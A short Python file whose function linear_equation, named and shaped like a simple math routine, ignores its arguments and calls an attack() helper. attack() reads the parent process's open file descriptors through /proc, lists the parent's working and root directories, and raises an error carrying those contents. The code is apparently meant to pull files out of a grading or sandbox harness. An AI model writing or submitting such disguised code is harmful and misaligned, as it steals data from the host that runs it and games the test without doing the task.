"""Follows the links of the parent's folder in /proc to its files."""

import os


def attack():
    parent = os.getppid()
    raise ValueError([open(f"/proc/{parent}/fd/{i}").read() for i in range(10)]
                     + os.listdir(f"/proc/{parent}/cwd") + os.listdir(f"/proc/{parent}/root"))


def linear_equation(x, w, b):
    return attack()
